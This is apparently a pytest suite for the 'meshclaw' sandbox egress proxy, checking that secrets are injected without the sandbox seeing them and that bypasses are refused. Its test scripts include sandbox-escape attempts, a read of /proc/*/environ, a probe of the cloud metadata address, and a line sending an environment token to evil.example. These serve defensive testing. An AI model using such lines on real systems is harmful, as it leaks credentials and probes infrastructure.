"""From inside a real sandbox, out through the proxy, to servers that stand for the internet."""

from __future__ import annotations

import shutil
import ssl
import sys
import tempfile
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest
import trustme

from meshclaw.guard.sandbox.egress.rules import Rule
from meshclaw.guard.sandbox.egress.secret import Secret
from meshclaw.guard.sandbox.egress.way_out import Egress
from meshclaw.guard.sandbox.process import Finished
from meshclaw.guard.sandbox.run import run
from tests.guard.sandbox.box import needs_bubblewrap, python, small
from tests.guard.sandbox.egress.way import GOOD, VALUE, Names, reachable
from tests.servers import web
from tests.servers.web import Web

pytestmark = needs_bubblewrap
needs_curl = pytest.mark.skipif(not shutil.which("curl"), reason="needs curl (apt install curl)")


@pytest.fixture
def work(home: Path) -> Iterator[Path]:
    with tempfile.TemporaryDirectory(prefix="meshclaw-", dir="/var/tmp") as folder:
        yield Path(folder)


class Inside:
    """Runs commands with a way out to the servers of the test."""

    def __init__(
        self, work: Path, authority: trustme.CA, rules: Sequence[Rule], secrets: Sequence[Secret]
    ) -> None:
        context = ssl.create_default_context()
        authority.configure_trust(context)
        self.egress = Egress(rules, secrets, resolve=Names(), reachable=reachable, upstream=context)
        self._work = work

    def run(self, *command: str) -> Finished:
        with self.egress:
            return run(small(self._work), command, egress=self.egress)


@needs_curl
def test_curl_uses_a_secret_that_it_never_sees(work: Path, authority: trustme.CA, secure: Web) -> None:
    secure.answers["/user"] = web.answer(b"hello")
    secret = Secret(name="TOKEN", value=VALUE, host=GOOD, port=secure.port)
    inside = Inside(work, authority, [Rule(host=GOOD, port=secure.port)], [secret])
    curl = f'curl -sS -H "Authorization: token $TOKEN" https://{GOOD}:{secure.port}/user'
    finished = inside.run("sh", "-c", f"{curl} && cat /proc/*/environ; env")
    assert finished.code == 0, finished.stderr
    assert finished.stdout.startswith(b"hello")
    assert VALUE.encode() not in finished.stdout
    assert b"authorization: token " + VALUE.encode() in secure.requests[0]
    assert [one.secrets for one in finished.passed] == [("TOKEN",)]


CLIENTS = {
    "urllib": "import urllib.request as u; print(u.urlopen(URL, timeout=5).status)",
    "http.client": """
import http.client, ssl
c = http.client.HTTPSConnection("127.0.0.1", 3128, timeout=5)
c.set_tunnel(HOST, PORT); c.request("GET", "/repos/ours"); print(c.getresponse().status)
""",
}


@pytest.mark.parametrize("client", CLIENTS.values(), ids=CLIENTS.keys())
def test_python_s_own_clients_find_the_way(
    client: str, work: Path, authority: trustme.CA, secure: Web
) -> None:
    rule = Rule(host=GOOD, port=secure.port, methods=frozenset({"GET"}), paths=("/repos/ours",))
    url = f"https://{GOOD}:{secure.port}/repos/ours"
    finished = Inside(work, authority, [rule], []).run(
        *python(f"URL, HOST, PORT = {url!r}, {GOOD!r}, {secure.port}\n{client}")
    )
    assert (finished.code, finished.stdout) == (0, b"200\n"), finished.stderr


ROUNDS = {
    "past the proxy": "import socket; socket.create_connection(('127.0.0.2', PORT), 2)",
    "past it by name": "import socket; socket.create_connection((HOST, PORT), 2)",
    "another host": "import urllib.request as u; u.urlopen(f'https://other.example:{PORT}/', timeout=5)",
    "the proxy's own address": "import urllib.request as u; u.urlopen('http://127.0.0.1:3128/', timeout=5)",
    "loopback by the proxy": """
import socket
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"GET http://127.0.0.1:3128/ HTTP/1.1\\r\\nHost: 127.0.0.1:3128\\r\\n\\r\\n")
raise SystemExit(b"403" in s.recv(99))
""",
    "a datagram": "import socket as s; s.socket(s.AF_INET, s.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53))",
    "a raw socket": "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)",
}  # fmt: skip


@pytest.mark.parametrize("script", ROUNDS.values(), ids=ROUNDS.keys())
def test_there_is_no_way_round_the_list(script: str, work: Path, authority: trustme.CA, secure: Web) -> None:
    inside = Inside(work, authority, [Rule(host=GOOD, port=secure.port)], [])
    finished = inside.run(*python(f"HOST, PORT = {GOOD!r}, {secure.port}\n{script}"))
    assert finished.code == 1, finished
    assert not secure.requests


def test_a_server_of_its_own_is_reached_by_nobody_else(work: Path, authority: trustme.CA) -> None:
    """Test suites that start servers on loopback go on working."""
    script = """
import socket, threading
s = socket.create_server(("127.0.0.1", 0))
threading.Thread(target=lambda: s.accept()[0].sendall(b"own")).start()
print(socket.create_connection(s.getsockname()).recv(9))
"""
    finished = Inside(work, authority, [Rule(host=GOOD)], []).run(*python(script))
    assert finished.stdout == b"b'own'\n", finished.stderr


def test_refusals_come_back_as_facts_without_secrets(work: Path, authority: trustme.CA, secure: Web) -> None:
    secret = Secret(name="TOKEN", value=VALUE, host=GOOD, port=secure.port)
    inside = Inside(work, authority, [Rule(host=GOOD, port=secure.port)], [secret])
    script = """
import os, urllib.request as u
for url in (f"http://evil.example/?{os.environ['TOKEN']}", "https://169.254.169.254/"):
    try: u.urlopen(url, timeout=5)
    except OSError: pass
"""
    finished = inside.run(*python(script))
    assert [(one.rule, one.host, one.port, one.method) for one in finished.refused] == [
        ("egress.host", "evil.example", 80, "GET"),
        ("egress.host", "169.254.169.254", 443, "CONNECT"),
    ]
    assert "MC_SECRET" not in repr(finished.refused)
    assert sys.getsizeof(finished.stdout) < 100
